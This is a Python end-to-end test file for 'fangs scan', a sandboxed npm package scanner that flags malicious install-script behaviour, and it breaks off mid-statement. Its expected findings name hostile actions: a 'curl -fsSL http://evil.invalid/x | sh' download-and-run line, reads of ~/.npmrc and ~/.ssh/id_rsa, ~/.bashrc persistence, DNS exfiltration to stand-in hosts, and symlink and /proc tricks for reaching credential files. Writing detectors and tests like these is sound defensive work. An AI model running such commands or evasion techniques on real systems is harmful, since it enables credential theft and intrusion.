"""`fangs scan` end to end, for real, as root: the dependency tree is fetched
on the host from a registry on loopback (tests/fixtures/registry), installed
in the sandbox with every lifecycle script allowed while the eBPF sensor
watches, stored, and diffed against the package's baseline.

One class per sandbox backend with the same assertions (ScanNs, ScanDocker);
ScanErrors covers what fails before anything runs. Run one class with
`python3 test_scan.py ScanNs`. Needs root, node and npm; ScanDocker starts a
docker daemon when none answers (tests/e2e/docker_daemon.py).
"""

import glob
import json
import re
import os
import socket
import subprocess
import sys
import tempfile
import unittest

FANGS = os.environ.get("FANGS_CLI", "fangs")
ROOT = os.environ.get("FANGS_SOURCE_ROOT", os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..")))
sys.path.insert(0, os.path.join(ROOT, "tests", "fixtures", "registry"))
sys.path.insert(0, os.path.join(ROOT, "tests", "e2e"))

from docker_daemon import DockerDaemon  # noqa: E402
from download_hosts import DownloadHosts, HTTP_PORT, HTTPS_PORT, TOOL  # noqa: E402
from fake_registry import FakeRegistry  # noqa: E402

SCAN_TIMEOUT = 240
WORK_ROOT = "/var/lib/fangs/sandbox"

RUN_KEYS = {"id", "package", "version", "state", "review", "is_baseline", "events_emitted", "events_dropped",
            "event_count", "deviation_count", "max_severity", "duration_ns", "exit_code", "runner", "sandbox",
            "network", "error", "created_ns", "started_ns", "finished_ns"}
DEVIATION_KEYS = {"id", "run_id", "package", "kind", "severity", "value", "actor", "description", "origin",
                  "command", "evidence", "created_ns"}

# banner 2.x: each release adds one behaviour to the benign banner. `findings`
# must all be there (kind, value, severity); `only`: nothing else may be.
# `behaviours`: the findings (value, labels) they group into, one per
# behaviour: a deviation and the rule hits on its events are one (with
# `only`, exactly these).
VARIANTS = {
    "npmrc": {"version": "2.0.0", "only": True,
              "findings": [("fs_cred_read", "~/.npmrc", "critical"),
                           ("rule:cred-read-by-script", "~/.npmrc", "critical")],
              "behaviours": [("~/.npmrc", {"fs_cred_read", "rule:cred-read-by-script"})]},
    "ssh_key": {"version": "2.1.0", "only": True,
                "findings": [("fs_cred_read", "~/.ssh/id_rsa", "critical"),
                             ("rule:cred-read-by-script", "~/.ssh/id_rsa", "critical")],
                "behaviours": [("~/.ssh/id_rsa", {"fs_cred_read", "rule:cred-read-by-script"})]},
    "bashrc": {"version": "2.2.0", "only": True,
               "findings": [("fs_new_path_write", "~/.bashrc", "medium"),
                            ("rule:persistence-shell-startup", "~/.bashrc", "critical")],
               "behaviours": [("~/.bashrc", {"fs_new_path_write", "rule:persistence-shell-startup"})]},
    # curl itself may be missing (docker image) or fail: the sh -c line is what counts
    "curl_pipe_sh": {"version": "2.3.0", "only": False,
                     "findings": [("proc_new_exec", "/usr/bin/sh -c curl -fsSL http://evil.invalid/x | sh",
                                   "medium")],
                     "behaviours": [("sh -c curl -fsSL http://evil.invalid/x | sh",
                                     {"proc_new_exec", "rule:download-and-run"})]},
    # the lookup also shows the resolver plumbing (its config files, its address)
    "dns_connect": {"version": "2.4.0", "only": False,
                    "findings": [("net_new_dns", "exfil.evil.invalid", "medium"),
                                 ("net_new_destination", "198.51.100.23:8443/tcp", "high")],
                    "behaviours": [("exfil.evil.invalid", {"net_new_dns", "rule:script-network-not-registry"}),
                                   ("198.51.100.23:8443/tcp",
                                    {"net_new_destination", "rule:script-network-not-registry"})]},
    # the server name and the address it went to: the handshake does not
    # say the address here, so two findings
    "tls_sni": {"version": "2.5.0", "only": True,
                "findings": [("net_new_https_host", "c2.evil.invalid", "high"),
                             ("net_new_destination", "203.0.113.10:443/tcp", "high"),
                             ("rule:script-network-not-registry", "c2.evil.invalid", "high"),
                             ("rule:script-network-not-registry", "203.0.113.10:443/tcp", "high")],
                "behaviours": [("c2.evil.invalid", {"net_new_https_host", "rule:script-network-not-registry"}),
                               ("203.0.113.10:443/tcp",
                                {"net_new_destination", "rule:script-network-not-registry"})]},
}

SEVERITIES = ["info", "low", "medium", "high", "critical"]

# Each package's 1.1.0 reads the decoy ~/.npmrc in one roundabout way (1.0.0
# is benign): the read must be a credential read, cold (first run: the rules)
# and against a baseline (the differ too), named as the decoy it reached.
ALIAS_ATTACKS = ["alias-symlink", "alias-hardlink", "alias-relative", "alias-dirfd", "alias-procroot",
                 "alias-proccwd", "alias-longpath", "alias-swap", "forge-empty", "forge-other"]
# the forged environments are findings of their own
FORGE_RULES = {"forge-empty": ("rule:origin-env-cleared", "medium",
                               'forge-empty (postinstall) as npm_package_name=""'),
               "forge-other": ("rule:origin-forged", "high",
                               'forge-other (postinstall) as npm_package_name="banner"')}

# What an install prints when the sandbox, not the package, is in its way: a
# read-only or unreachable path, a lockfile npm refuses offline, node-gyp
# downloading headers, the sandbox's own set-up failing.
SANDBOX_ERRORS = ["EACCES", "EROFS", "read-only file system", "permission denied", "Missing: ", "from lock file",
                  "ENOTCACHED", "gyp http GET", "gyp ERR!", "sandbox setup:"]


def run_fangs(db, args, env=None, timeout=SCAN_TIMEOUT):
    return subprocess.run([FANGS, "--sqlite-path", db] + list(args), capture_output=True, text=True, env=env,
                          timeout=timeout)


def cgroup_dirs(run_id):
    """The run's cgroups: its sandbox is named after it, with a suffix new every attempt."""
    return [p for pat in ("/sys/fs/cgroup/fangs/", "/sys/fs/cgroup/*/fangs/") for name in (run_id, run_id + ".*")
            for p in glob.glob(pat + name)]



def is_home_npmrc(path):
    """The decoy ~/.npmrc as the sandbox's processes see it: /root (docker)
    or the run's person's home (ns)."""
    return bool(path) and re.fullmatch(r"(/root|/home/[a-z][a-z0-9_-]*)/\.npmrc", path) is not None

class ScanBase:
    """The assertions, for any backend; subclasses set SANDBOX."""

    SANDBOX = None
    docker = None

    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise RuntimeError("fangs scan needs root (cgroups, namespaces, eBPF): run the e2e tests as root")
        cls.env = dict(os.environ)
        cls.env.pop("DOCKER_HOST", None)
        cls.start_backend()
        cls.tmp = tempfile.TemporaryDirectory(prefix="fangs-e2e-")
        cls.db = os.path.join(cls.tmp.name, "fangs.db")
        cls.registry = FakeRegistry().start()
        try:
            # the baseline every banner test compares against: 1.0.0 seeds,
            # 1.0.1 and 1.1.0 differ from it by noise only
            cls.seed = cls.scan_json("banner@1.0.0")
            cls.noise = [cls.scan_json("banner@1.0.1"), cls.scan_json("banner@1.1.0")]
        except Exception:
            cls.tearDownClass()
            raise

    @classmethod
    def tearDownClass(cls):
        cls.registry.stop()
        cls.tmp.cleanup()
        cls.stop_backend()

    @classmethod
    def start_backend(cls):
        pass

    @classmethod
    def stop_backend(cls):
        pass

    @classmethod
    def scan(cls, spec, *extra, json_out=True):
        args = (["--json"] if json_out else []) + ["scan", "--quiet", "--sandbox", cls.SANDBOX, "--registry",
                                                   cls.registry.url] + list(extra) + [spec]
        return run_fangs(cls.db, args, env=cls.env)

    @classmethod
    def scan_json(cls, spec, *extra, code=0):
        p = cls.scan(spec, *extra)
        if p.returncode != code:
            raise AssertionError("fangs scan %s -> %d (wanted %d)\nstdout: %s\nstderr: %s" %
                                 (spec, p.returncode, code, p.stdout[-4000:], p.stderr[-4000:]))
        out = json.loads(p.stdout)
        if len(out) != 1 or "error" in out[0]:
            raise AssertionError("fangs scan %s: %s" % (spec, out))
        return out[0]

    def jfangs(self, *args):
        p = run_fangs(self.db, ["--json"] + list(args), env=self.env, timeout=60)
        self.assertEqual(p.returncode, 0, "fangs %s: %s" % (" ".join(args), p.stderr))
        return json.loads(p.stdout)

    def assert_clean_run(self, result, package, version, baseline):
        run = result["run"]
        self.assertEqual(set(run), RUN_KEYS)
        self.assertEqual((run["package"], run["version"]), (package, version))
        self.assertEqual(run["state"], "succeeded", run["error"])
        self.assertEqual(run["exit_code"], 0, "the install failed inside the sandbox")
        self.assertEqual(run["sandbox"], self.SANDBOX)
        self.assertEqual(run["network"], "none")
        self.assertEqual(run["runner"], "local")
        self.assertGreater(run["events_emitted"], 100, "the sensor saw (almost) nothing of the install")
        self.assertEqual(run["events_dropped"], 0)
        self.assertEqual(run["event_count"], run["events_emitted"], "every event the sensor emitted is stored")
        self.assertGreater(run["duration_ns"], 0)
        self.assertLessEqual(run["started_ns"], run["finished_ns"])
        self.assertEqual(result["baseline"], baseline)
        self.assertEqual(run["deviation_count"], len(result["deviations"]))
        self.assert_nothing_left(run["id"])
        self.assert_no_sandbox_error(run["id"])

    def install_output(self, run_id):
        return self.jfangs("run", "show", run_id)["install_output"] or ""

    def assert_no_sandbox_error(self, run_id):
        out = self.install_output(run_id)
        for needle in SANDBOX_ERRORS:
            self.assertNotIn(needle.lower(), out.lower(), "the sandbox got in the install's way:\n" + out[-3000:])

    def assert_nothing_left(self, run_id):
        self.assertEqual(glob.glob(os.path.join(WORK_ROOT, run_id + "*")), [], "the run's work directory is left")
        self.assertEqual(cgroup_dirs(run_id), [], "the run's cgroups are left")
        if self.docker:
            self.assertEqual([c for c in self.docker.containers() if c.startswith("fangs-" + run_id)], [],
                             "the run's container is left")

    def assert_origin(self, dev, package, version, script, command):
        self.assertEqual(dev["actor"], "script")
        self.assertEqual(dev["origin"], {"package": package, "version": version, "script": script,
                                         "command": command}, dev)

    def check_variant(self, name, fail_on="high"):
        """Scans a banner variant; checks its findings, their origin and the exit code."""
        v = VARIANTS[name]
        p = self.scan("banner@" + v["version"], "--fail-on", fail_on)
        out = json.loads(p.stdout)[0]
        self.assertNotIn("error", out)
        self.assert_clean_run(out, "banner", v["version"], "pending")
        devs = out["deviations"]
        got = {(d["kind"], d["value"]): d for d in devs}
        for kind, value, severity in v["findings"]:
            self.assertIn((kind, value), got, "missing %s %s in %s" % (kind, value, sorted(got)))
            self.assertEqual(got[(kind, value)]["severity"], severity)
        if v["only"]:
            self.assertEqual(sorted(got), sorted((k, val) for k, val, _ in v["findings"]),
                             "unexpected findings besides the one behaviour")
        for d in devs:
            self.assertEqual(set(d), DEVIATION_KEYS)
            self.assertEqual((d["run_id"], d["package"]), (out["run"]["id"], "banner"))
            self.assert_origin(d, "banner", v["version"], "postinstall", "node postinstall.js")
            self.assertTrue(d["evidence"] and all(isinstance(i, int) for i in d["evidence"]), d)
            if name not in ("npmrc", "ssh_key"):
                self.assertNotEqual(d["kind"], "fs_cred_read", "a variant that steals nothing: %s" % d)
        worst = max(SEVERITIES.index(d["severity"]) for d in devs)
        self.assertEqual(SEVERITIES[worst], out["run"]["max_severity"])
        self.assert_behaviours(out, v)
        self.assertEqual(p.returncode, 3 if worst >= SEVERITIES.index(fail_on) else 0,
                         "exit code vs --fail-on %s, stderr: %s" % (fail_on, p.stderr))
        return out, got

    def assert_behaviours(self, out, v):
        """The run's records grouped into one finding per behaviour: each
        expected behaviour is one finding showing the value and carrying
        (at least) the labels."""
        findings = out["findings"]
        for value, labels in v["behaviours"]:
            match = [f for f in findings if value in f["values"] and labels <= set(f["labels"])]
            self.assertEqual(len(match), 1, "no finding %s %s in %s" %
                             (value, labels, [(f["values"], f["labels"]) for f in findings]))
        if v["only"]:
            # a connection may join the server name it went to (when the
            # handshake's event carries the address): never more findings
            self.assertLessEqual(len(findings), len(v["behaviours"]))
        self.assertEqual(out["counts"]["findings"], len(findings))
        self.assertEqual(out["counts"]["deviations"] + out["counts"]["rule_hits"], len(out["deviations"]))
        self.assertEqual(out["counts"]["rule_hits"], sum(d["kind"].startswith("rule:") for d in out["deviations"]))
        ids = sorted(i for f in findings for i in f["deviation_ids"])
        self.assertEqual(ids, sorted(d["id"] for d in out["deviations"]), "each record in exactly one finding")
        worst = max(SEVERITIES.index(f["severity"]) for f in findings)
        self.assertEqual(SEVERITIES[worst], out["run"]["max_severity"])

    # ---- the baseline -------------------------------------------------------

    def test_seed(self):
        self.assert_clean_run(self.seed, "banner", "1.0.0", "seeded")
        self.assertEqual(self.seed["deviations"], [])
        self.assertTrue(self.seed["run"]["is_baseline"])
        # what the sandbox does to set the run up is not the run's: docker's
        # runc works inside the run's cgroup before the container's /bin/sh
        # execs (the backend says so: fangs_sandbox_setup_in_cgroup)
        evs = self.jfangs("run", "show", self.seed["run"]["id"], "--events")["events"]
        self.assertEqual([(e["kind"], e["comm"]) for e in evs if e.get("comm", "").startswith("runc")], [])
        if self.SANDBOX == "docker":
            self.assertEqual((evs[0]["kind"], evs[0].get("path")), ("exec", "/bin/sh"), evs[:3])

    def test_noise_only_releases_deviate_nothing(self):
        for result, version in zip(self.noise, ["1.0.1", "1.1.0"]):
            self.assert_clean_run(result, "banner", version, "joined")
            self.assertEqual(result["deviations"], [], "noise (tmp names, pids, timestamps, version) deviated")
        baseline = self.jfangs("baseline", "list", "--package", "banner")
        self.assertEqual(sorted(r["version"] for r in baseline), ["1.0.0", "1.0.1", "1.1.0"])

    # ---- one behaviour each ---------------------------------------------------

    def test_reads_npmrc(self):
        out, got = self.check_variant("npmrc")
        self.assertEqual(out["run"]["max_severity"], "critical")
        # the evidence names the event a person would look at
        dev = self.jfangs("deviation", "show", str(got[("fs_cred_read", "~/.npmrc")]["id"]))
        opens = [(e["kind"], e.get("path", "")) for e in dev["evidence_events"]]
        self.assertTrue(any(k == "file_open" and p.endswith("/.npmrc") for k, p in opens), opens)

    def test_reads_ssh_key_human_output(self):
        p = self.scan("banner@2.1.0", json_out=False)
        self.assertEqual(p.returncode, 3, p.stderr)
        self.assertIn("banner@2.1.0", p.stdout)
        self.assertIn("~/.ssh/id_rsa", p.stdout)
        # one behaviour: the deviation and the rule hit on the same read
        self.assertIn("1 finding (1 deviation from the baseline, 1 rule hit):", p.stdout)
        self.assertIn("verdict: 1 finding (1 deviation, 1 rule hit), highest critical (fails)", p.stdout)
        self.assertIn("rule:cred-read-by-script + fs_cred_read", p.stdout)
        run_id = p.stdout.split()[1].rstrip(":")
        devs = self.jfangs("deviation", "list", "--run", run_id)
        self.assertEqual(sorted((d["kind"], d["value"], d["severity"]) for d in devs),
                         [("fs_cred_read", "~/.ssh/id_rsa", "critical"),
                          ("rule:cred-read-by-script", "~/.ssh/id_rsa", "critical")])
        for d in devs:
            self.assert_origin(d, "banner", "2.1.0", "postinstall", "node postinstall.js")
        self.assertIn(run_id, [r["id"] for r in self.jfangs("pending")])

    def test_writes_bashrc(self):
        # medium: below the default --fail-on high, at --fail-on medium
        self.check_variant("bashrc", fail_on="medium")

    def test_downloads_and_runs_a_script(self):
        out, got = self.check_variant("curl_pipe_sh", fail_on="medium")
        sh = got[("proc_new_exec", VARIANTS["curl_pipe_sh"]["findings"][0][1])]
        self.assertEqual(sh["command"], "sh -c curl -fsSL http://evil.invalid/x | sh")

    def test_resolves_and_connects(self):
        self.check_variant("dns_connect")

    def test_tls_to_new_server_name(self):
        self.check_variant("tls_sni")

    def test_verdict_counts_behaviours(self):
        """The verdict line counts findings (behaviours), not records: the
        four records of 2.5.0 (a new server name and a new address, each a
        deviation and a rule hit) are two behaviours, or one when the
        handshake's event names the address."""
        v = VARIANTS["tls_sni"]
        p = self.scan("banner@" + v["version"], json_out=False)
        self.assertEqual(p.returncode, 3, p.stderr)
        m = re.search(r"^verdict: (\d+) findings? \((\d+) deviations?, (\d+) rule hits?\), highest high \(fails\)",
                      p.stdout, re.M)
        self.assertTrue(m, p.stdout)
        n, devs, hits = map(int, m.groups())
        self.assertEqual((devs, hits), (2, 2))
        self.assertIn(n, (1, len(v["behaviours"])))
        self.assertEqual(sum(1 for line in p.stdout.splitlines() if line.startswith("  [")), n, p.stdout)

    # ---- credentials by identity, attribution by ancestry ------------------------

    def assert_npmrc_stolen(self, out, package, kinds):
        got = {(d["kind"], d["value"]): d for d in out["deviations"]}
        for kind in kinds:
            self.assertIn((kind, "~/.npmrc"), got, "missing %s ~/.npmrc in %s" % (kind, sorted(got)))
            dev = got[(kind, "~/.npmrc")]
            self.assertEqual(dev["severity"], "critical")
            # the kernel's mark, whatever the environment said
            self.assert_origin(dev, package, "1.1.0", "postinstall", "node postinstall.js")
        rule = FORGE_RULES.get(package)
        if rule:
            self.assertIn((rule[0], rule[2]), got, sorted(got))
            self.assertEqual(got[(rule[0], rule[2])]["severity"], rule[1])
        else:
            self.assertFalse([k for k, _ in got if k.startswith("rule:origin-")], sorted(got))
        return got

    def check_alias_attack(self, package):
        # cold: the attack is the package's first run, judged by the rules
        cold = self.scan_json(package + "@1.1.0", code=3)
        self.assert_clean_run(cold, package, "1.1.0", "pending")
        self.assert_npmrc_stolen(cold, package, ["rule:cred-read-by-script"])
        # the benign release seeds the baseline; the attack deviates from it
        seed = self.scan_json(package + "@1.0.0")
        self.assert_clean_run(seed, package, "1.0.0", "seeded")
        self.assertEqual(seed["deviations"], [])
        again = self.scan_json(package + "@1.1.0", code=3)
        self.assert_clean_run(again, package, "1.1.0", "pending")
        got = self.assert_npmrc_stolen(again, package, ["fs_cred_read", "rule:cred-read-by-script"])
        # the evidence is the open as written, beside the file it reached
        dev = self.jfangs("deviation", "show", str(got[("fs_cred_read", "~/.npmrc")]["id"]))
        opens = [e for e in dev["evidence_events"] if e["kind"] == "file_open"]
        self.assertTrue(opens, dev)
        self.assertTrue(all(is_home_npmrc(e.get("decoy")) and e.get("ino") for e in opens), opens)
        return opens

    def test_alias_symlink(self):
        opens = self.check_alias_attack("alias-symlink")
        self.assertTrue(any(e["path"].endswith("/alias-symlink/cfg") and is_home_npmrc(e["real_path"])
                            for e in opens), opens)

    def test_alias_hardlink(self):
        opens = self.check_alias_attack("alias-hardlink")
        self.assertTrue(any(e["real_path"].endswith("/alias-hardlink/cfg") for e in opens), opens)

    def test_alias_relative(self):
        opens = self.check_alias_attack("alias-relative")
        self.assertTrue(any(e["path"] == ".npmrc" for e in opens), opens)

    def test_alias_dirfd(self):
        opens = self.check_alias_attack("alias-dirfd")
        self.assertTrue(any(e["path"] == ".npmrc" and e["comm"] == "tar" for e in opens), opens)

    def test_alias_proc_self_root(self):
        opens = self.check_alias_attack("alias-procroot")
        self.assertTrue(any(e["path"].startswith("/proc/self/root/") and is_home_npmrc(e["path"][len("/proc/self/root"):])
                            for e in opens), opens)

    def test_alias_proc_self_cwd(self):
        opens = self.check_alias_attack("alias-proccwd")
        self.assertTrue(any(e["path"] == "/proc/self/cwd/.npmrc" for e in opens), opens)

    def test_alias_long_path(self):
        opens = self.check_alias_attack("alias-longpath")
        self.assertTrue(any(len(e["path"]) < 300 and is_home_npmrc(e["real_path"]) for e in opens), opens)

    def test_alias_swapped_baseline_file(self):
        # the path the baseline reads is now a symlink to ~/.npmrc
        opens = self.check_alias_attack("alias-swap")
        self.assertTrue(any(e["path"].endswith("/alias-swap/settings.json") for e in opens), opens)

    def test_forged_origin_empty(self):
        self.check_alias_attack("forge-empty")

    def test_forged_origin_other_package(self):
        self.check_alias_attack("forge-other")

    # ---- a dependency's script --------------------------------------------------

    def test_dependency_script_through_latest(self):
        seed = self.scan_json("colors-app@1.0.0")
        self.assert_clean_run(seed, "colors-app", "1.0.0", "seeded")
        self.assertEqual(seed["deviations"], [])
        # no version: the registry's latest dist-tag (1.1.0, on palette 1.1.0)
        out = self.scan_json("colors-app", code=3)
        self.assert_clean_run(out, "colors-app", "1.1.0", "pending")
        self.assertEqual([(d["kind"], d["value"], d["severity"]) for d in out["deviations"]],
                         [("rule:cred-read-by-script", "~/.npmrc", "critical"),
                          ("fs_cred_read", "~/.npmrc", "critical")])
        for dev in out["deviations"]:
            self.assertEqual(dev["package"], "colors-app", "the finding belongs to the scanned package")
            self.assert_origin(dev, "palette", "1.1.0", "install", "node build.js")


class DecoyMixin:
    """A decoy credential that leaves the sandbox, encoded, is a critical
    finding whatever the package's history."""

    def assert_decoy_exfiltrated(self, out):
        devs = [d for d in out["deviations"] if d["kind"] == "rule:decoy-exfiltrated"]
        self.assertEqual(len(devs), 1, out["deviations"])
        d = devs[0]
        self.assertEqual(d["severity"], "critical")
        # base64url, or plain base64 when the token's encoding has no - or _;
        # Node's resolver lower-cases the name (IDNA)
        self.assertRegex(d["value"], r"^~/\.npmrc \(base64(url)?, lower-cased, split across DNS labels\)$")
        self.assertIn("npm token", d["description"])
        self.assertIn("DNS query", d["description"])
        self.assert_origin(d, "courier", "1.1.0", "postinstall", "node postinstall.js")
        shown = self.jfangs("deviation", "show", str(d["id"]))
        events = shown["evidence_events"]
        self.assertTrue(events)
        self.assertEqual({e["kind"] for e in events}, {"dns_query"})
        self.assertTrue(all(e["qname"].endswith(".t.courier.invalid") for e in events), events)
        self.assertEqual(out["run"]["max_severity"], "critical")

    def test_decoy_sent_in_dns_labels(self):
        # cold: the package has no baseline
        cold = self.scan_json("courier@1.1.0", code=3)
        self.assert_clean_run(cold, "courier", "1.1.0", "pending")
        self.assert_decoy_exfiltrated(cold)
        # after a baseline: 1.0.0 seeds it, 1.1.0 is judged against it
        seed = self.scan_json("courier@1.0.0")
        self.assert_clean_run(seed, "courier", "1.0.0", "seeded")
        self.assertEqual(seed["deviations"], [])
        again = self.scan_json("courier@1.1.0", code=3)
        self.assert_clean_run(again, "courier", "1.1.0", "pending")
        self.assert_decoy_exfiltrated(again)
        self.assertIn(("fs_cred_read", "~/.npmrc"), {(d["kind"], d["value"]) for d in again["deviations"]})


class ScanNs(DecoyMixin, ScanBase, unittest.TestCase):
    SANDBOX = "ns"

    # ---- what real packages need at install time ------------------------------
    # (the ns sandbox shows the host's /usr: node, its headers, compilers, python)

    def test_native_addon_builds_offline(self):
        # node-gyp builds with the host's node headers: no download, no
        # network finding, and the addon it built loads
        out = self.scan_json("addon@1.0.0")
        self.assert_clean_run(out, "addon", "1.0.0", "seeded")
        self.assertEqual(out["deviations"], [], "a first sight with rule findings")
        text = self.install_output(out["run"]["id"])
        self.assertIn("gyp info ok", text)
        self.assertIn("addon says: built offline", text)
        self.assertNotIn("nodejs.org", text)

    def test_optional_dependency_not_served(self):
        # optdep-win32 is a 404: left out of the lockfile; the install goes on
        # and the optional binary for this platform is there
        out = self.scan_json("optdep-app@1.0.0")
        self.assert_clean_run(out, "optdep-app", "1.0.0", "seeded")
        text = self.install_output(out["run"]["id"])
        self.assertIn("optdep-app uses optdep-linux", text)
        self.assertIn("optdep-linux installed", text)
        self.assertNotIn("optdep-darwin installed", text, "another platform's package was installed")
        self.assertIn("optdep-win32", self.registry.requests, "the registry was not asked for the missing one")

    def test_download_cache_is_writable(self):
        # as prebuild-install: its cache in npm's cache directory is
        # writable, so the download attempt is made, and seen; the host's
        # npm cache is not written
        marker = "/var/cache/npm/_prebuilds/prebuilt-1.0.0-probe"
        out = self.scan_json("prebuilt@1.0.0", code=3)
        self.assert_clean_run(out, "prebuilt", "1.0.0", "pending")
        text = self.install_output(out["run"]["id"])
        self.assertRegex(text, r"prebuilt: cache ready at (/root|/home/[a-z][a-z0-9_-]*)/\.npm/_prebuilds")
        self.assertIn("building from source instead", text)
        self.assertEqual([(d["kind"], d["value"], d["severity"]) for d in out["deviations"]],
                         [("rule:script-network-not-registry", "prebuilds.fixture.invalid", "high")])
        self.assert_origin(out["deviations"][0], "prebuilt", "1.0.0", "install", "node install.js")
        self.assertFalse(os.path.exists(marker), "the sandbox wrote into the host's npm cache")

    def test_first_sight_of_honest_habits(self):
        # the project's .env loaded as dotenv does, github.com looked up for
        # a prebuilt binary: low findings only, so the first run seeds
        out = self.scan_json("firstsight@1.0.0")
        self.assert_clean_run(out, "firstsight", "1.0.0", "seeded")
        text = self.install_output(out["run"]["id"])
        self.assertRegex(text, r"firstsight: [1-9][0-9]* variables from the project's .env")
        self.assertIn("building from source", text)
        self.assertEqual(sorted((d["kind"], d["value"], d["severity"]) for d in out["deviations"]),
                         [("rule:project-env-read", "~/app/.env", "low"),
                          ("rule:script-download-host", "github.com", "low")], out["deviations"])
        for d in out["deviations"]:
            self.assert_origin(d, "firstsight", "1.0.0", "postinstall", "node postinstall.js")

    # ---- content is not behaviour (ns only: not yet run on the docker backend) ---

    def test_release_that_only_adds_files(self):
        seed = self.scan_json("modkit@1.0.0")
        self.assert_clean_run(seed, "modkit", "1.0.0", "seeded")
        # 12 new modules its install script loads, a renamed esbuild chunk, a
        # renamed bundled tarball: one info summary, the run joins the baseline
        out = self.scan_json("modkit@1.1.0")
        self.assert_clean_run(out, "modkit", "1.1.0", "joined")
        self.assertEqual([(d["kind"], d["severity"], d["actor"]) for d in out["deviations"]],
                         [("content_changed", "info", "npm")], out["deviations"])
        summary = out["deviations"][0]
        self.assertTrue(summary["value"].endswith("/node_modules/modkit"), summary["value"])
        lines = summary["description"].split("\n")
        # (npm versions differ in which of the files they read back: "r" lines)
        self.assertTrue(lines[0].startswith("13 files added, "), lines[0])
        self.assertIn("12 unpacked files read by a script", lines[0])
        self.assertTrue(lines[0].endswith(", 1 file removed"), lines[0])
        self.assertIn("+ lib/modules/esnext.set.union.js", lines)
        self.assertIn("s lib/modules/esnext.set.union.js", lines)
        self.assertIn("+ vendor/helper-2.0.1.tgz", lines)
        self.assertIn("- vendor/helper-2.0.0.tgz", lines)
        self.assertFalse([x for x in lines if "chunk-" in x], "a renamed chunk is the same file: %s" % lines)
        self.assertTrue(summary["evidence"])
        self.assertEqual(out["run"]["max_severity"], "info")
        # the file list is stored: `deviation show` gives it back
        shown = self.jfangs("deviation", "show", str(summary["id"]))
        self.assertEqual(shown["description"], summary["description"])

        # one more module, which reads the npm token when the script loads it
        out = self.scan_json("modkit@1.2.0", code=3)
        self.assert_clean_run(out, "modkit", "1.2.0", "pending")
        got = sorted((d["kind"], d["value"], d["severity"]) for d in out["deviations"])
        self.assertEqual(got, sorted([("fs_cred_read", "~/.npmrc", "critical"),
                                      ("rule:cred-read-by-script", "~/.npmrc", "critical"),
                                      ("content_changed", summary["value"], "info")]))
        cred = [d for d in out["deviations"] if d["kind"] == "fs_cred_read"][0]
        self.assert_origin(cred, "modkit", "1.2.0", "postinstall", "node postinstall.js")
        content = [d for d in out["deviations"] if d["kind"] == "content_changed"][0]
        self.assertIn("+ lib/modules/zz-telemetry.js", content["description"].split("\n"))

    def test_bridge_resolver_is_not_a_destination(self):
        # with no network the lookup goes to the sandbox's own 127.0.0.53; with
        # a bridge, to the host's resolvers: plumbing either way, the name is the news
        # the lookup is a rule hit on first sight; a person accepts it
        seed = self.scan_json("lookup@1.0.0", code=3)
        self.assert_clean_run(seed, "lookup", "1.0.0", "pending")
        self.assertEqual([(d["kind"], d["value"]) for d in seed["deviations"]],
                         [("rule:script-network-not-registry", "resolver-check.invalid")])
        p = run_fangs(self.db, ["baseline", "promote", seed["run"]["id"]], env=self.env, timeout=60)
        self.assertEqual(p.returncode, 0, p.stderr)
        p = self.scan("lookup@1.0.0", "--network", "bridge")
        out = json.loads(p.stdout)[0]
        self.assertEqual(p.returncode, 0, [(d["kind"], d["value"]) for d in out["deviations"]])
        self.assertEqual(out["run"]["network"], "bridge")
        self.assertEqual(out["run"]["state"], "succeeded", out["run"]["error"])
        self.assertEqual([d for d in out["deviations"] if d["kind"] == "net_new_destination"], [],
                         "the sandbox's resolver is not a destination")
        self.assertEqual(out["deviations"], [])
        self.assertEqual(out["baseline"], "joined")


class ScanDocker(DecoyMixin, ScanBase, unittest.TestCase):
    SANDBOX = "docker"

    @classmethod
    def start_backend(cls):
        cls.docker = DockerDaemon(ROOT).start()
        cls.env["DOCKER_HOST"] = cls.docker.host

    @classmethod
    def stop_backend(cls):
        if cls.docker:
            cls.docker.stop()


class ScanProxy(unittest.TestCase):
    """Network mode proxy on the ns sandbox: the fixture `fetcher` downloads
    its binary from download hosts on this machine's loopback (allowed in
    the configuration) through the recording proxy; a host that is no
    download host is refused; a direct connect still fails. Every request
    is an event of the run, attributed to the install script."""

    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise RuntimeError("fangs scan needs root: run the e2e tests as root")
        cls.tmp = tempfile.TemporaryDirectory(prefix="fangs-e2e-proxy-")
        cls.db = os.path.join(cls.tmp.name, "fangs.db")
        cls.config = os.path.join(cls.tmp.name, "fangs.yaml")
        with open(cls.config, "w") as f:
            f.write("proxy:\n  allow_hosts: [\"localhost:%d\"]\n  packages:\n    fetcher: [\"localhost:%d\"]\n"
                    % (HTTP_PORT, HTTPS_PORT))
        cls.registry = FakeRegistry().start()
        cls.hosts = DownloadHosts().start()

    @classmethod
    def tearDownClass(cls):
        cls.hosts.stop()
        cls.registry.stop()
        cls.tmp.cleanup()

    def setUp(self):
        self.hosts.clear()

    def scan(self, spec, network="proxy", code=0):
        p = run_fangs(self.db, ["--config", self.config, "--json", "scan", "--quiet", "--network", network,
                                "--registry", self.registry.url, "--fail-on", "critical", spec])
        self.assertEqual(p.returncode, code, "fangs scan %s: %s %s" % (spec, p.stdout[-3000:], p.stderr[-3000:]))
        out = json.loads(p.stdout)[0]
        self.assertNotIn("error", out)
        self.assertEqual(out["run"]["network"], network)
        return out

    def events(self, run_id, kind=None):
        p = run_fangs(self.db, ["--json", "run", "show", run_id, "--events"])
        self.assertEqual(p.returncode, 0, p.stderr)
        evs = json.loads(p.stdout)["events"]
        return [e for e in evs if kind is None or e["kind"] == kind]

    def assert_by_script(self, ev, version):
        self.assertEqual(ev["origin"]["package"], "fetcher", ev)
        self.assertEqual(ev["origin"]["version"], version, ev)
        self.assertEqual(ev["origin"]["script"], "install", ev)
        self.assertEqual(ev["comm"], "node", ev)

    def test_1_download_through_proxy(self):
        out = self.scan("fetcher@1.0.0")
        run = out["run"]
        self.assertEqual(run["exit_code"], 0, "the install failed: " + str(out))
        self.assertEqual(self.hosts.served(), {"https": ["/fetcher/v1/tool-linux-x64"],
                                               "http": ["/fetcher/v1/tool-linux-x64.sha256"]})
        reqs = self.events(run["id"], "proxy_request")
        self.assertEqual(len(reqs), 2, reqs)
        tunnel = [e for e in reqs if e["method"] == "CONNECT"][0]
        plain = [e for e in reqs if e["method"] == "GET"][0]
        self.assertEqual((tunnel["host"], tunnel["port"], tunnel["sni"], tunnel["allowed"], tunnel["status"]),
